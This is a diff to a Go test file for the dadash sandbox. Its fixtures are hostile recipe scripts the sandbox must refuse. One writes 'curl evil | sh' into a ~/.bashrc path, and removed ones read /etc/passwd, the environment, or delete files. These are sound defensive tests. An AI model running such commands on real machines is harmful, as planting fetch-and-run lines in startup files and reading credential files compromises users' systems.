@@ -14,7 +14,9 @@ import (
 
 // TestSandbox runs hostile recipes with --sandbox (and some without, where
 // the trust model lets a script do what its user can). Each names the
-// target through args, as the script cannot read the environment.
+// target through args, as the script cannot read the environment. The os
+// module's other refusals (/etc/passwd, getenv, listdir, remove, links)
+// are tested in builtins/osmod; here, the flags and the other modules.
 func TestSandbox(t *testing.T) {
 	home := t.TempDir()
 	bashrc := filepath.Join(home, ".bashrc")
@@ -22,15 +24,9 @@ func TestSandbox(t *testing.T) {
 	outside := t.TempDir()
 	os.WriteFile(filepath.Join(outside, "secret.star"), []byte("secret = 1\n"), 0o644)
 	dir := writeFiles(t, map[string]string{
-		"bashrc.star":  "os.write_text(args[0], 'curl evil | sh\\n')\n",
-		"passwd.star":  "print(os.read_text('/etc/passwd')[:10])\n",
-		"getenv.star":  "print(os.getenv('HOME'))\n",
-		"environ.star": "print(os.environ)\n",
-		"listdir.star": "print(os.listdir(args[0]))\n",
-		"exists.star":  "print(os.path.exists(args[0]))\n",
-		"remove.star":  "os.remove(args[0])\n",
-		"loop.star":    "n = 0\nwhile True:\n    n += 1\n",
-		"alloc.star":   "x = [0] * 10**9\n",
+		"bashrc.star": "os.write_text(args[0], 'curl evil | sh\\n')\n",
+		"loop.star":   "n = 0\nwhile True:\n    n += 1\n",
+		"alloc.star":  "x = [0] * 10**9\n",
 		"ok.star": "p = os.path.join(args[0], 'run', 'log.csv')\nos.makedirs(os.path.dirname(p), exist_ok = True)\n" +
 			"os.write_text(p, 'a\\n')\nprint(os.read_text(p), os.listdir(args[0]))\n",
 		"ckpt.star":   "checkpoint.save(args[0], epoch = 1)\nprint(checkpoint.load(args[0]).epoch)\n",
@@ -51,12 +47,6 @@ func TestSandbox(t *testing.T) {
 	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
 		t.Fatalf("~/.bashrc was changed: %q", b)
 	}
-	sb("passwd.star").check(t, "read /etc/passwd", 1, "", "os.read_text", "/etc/passwd", outsideMsg+" read", "--allow-read")
-	sb("getenv.star").check(t, "getenv", 1, "", "os.getenv: the environment is not visible", "--set")
-	sb("environ.star").check(t, "os.environ", 1, "", "environ")
-	sb("listdir.star", home).check(t, "listdir", 1, "", outsideMsg+" read")
-	sb("exists.star", bashrc).check(t, "exists", 1, "", outsideMsg+" read")
-	sb("remove.star", bashrc).check(t, "remove", 1, "", outsideMsg+" write")
 	sb("symload.star").check(t, "load through a link", 1, "", "through a symbolic link")
 	sb("--max-steps", "100000", "loop.star").check(t, "endless loop", 1, "", "loop.star:", "100000 execution steps", "--max-steps")
 	sb("alloc.star").check(t, "[0] * 10**9", 1, "", "alloc.star:1:", "memory budget", "--max-memory")
@@ -86,29 +76,6 @@ func TestSandbox(t *testing.T) {
 	dadash(t, dir, "", "--max-memory", "lots", "ok.star").check(t, "bad size", 2, "", "--max-memory lots")
 	dadash(t, dir, "", "--max-steps", "-1", "ok.star").check(t, "bad steps", 2, "", "--max-steps -1")
 	dadash(t, dir, "", "--allow-read").check(t, "missing folder", 2, "", "--allow-read needs a value")
-}
-
-// TestSandboxRecipe: a benchmark recipe runs whole under --sandbox with the
-// folders its command line names, and dadash eval reads what it saved.
-func TestSandboxRecipe(t *testing.T) {
-	if testing.Short() {
-		t.Skip("trains a ResNet-50 on a tiny dataset; skipped with -short")
-	}
-	root, _ := filepath.Abs("../..")
-	save := t.TempDir()
-	cwd := t.TempDir()
-	r := dadash(t, cwd, "", "--sandbox", filepath.Join(root, "scripts", "cub200.star"), "--synthetic", "--save_path", save, "--set", "epochs=1")
-	r.check(t, "sandboxed recipe", 0, "*")
-	for _, f := range []string{"log.csv", "report.html", "checkpoint_last.ckpt"} {
-		if _, err := os.Stat(filepath.Join(save, f)); err != nil {
-			t.Errorf("the sandboxed run did not write %s", f)
-		}
-	}
-	dadash(t, cwd, "", "--sandbox", "eval", "--test_path", filepath.Join(save, "checkpoint_best.ckpt"), "--dataset", "cub200",
-		"--evaluation_metrics", "e_recall@1", "--json").check(t, "sandboxed eval", 0, "*")
-	// Without --save_path the recipe's default folder is not writable.
-	dadash(t, cwd, "", "--sandbox", filepath.Join(root, "scripts", "cub200.star"), "--synthetic").
-		check(t, "no save_path", 1, "*", "outside the folders this --sandbox run may write", "--allow-write")
 }
 
 // TestSignalsRemoveTemps: SIGTERM, and a second SIGINT, end dadash at once
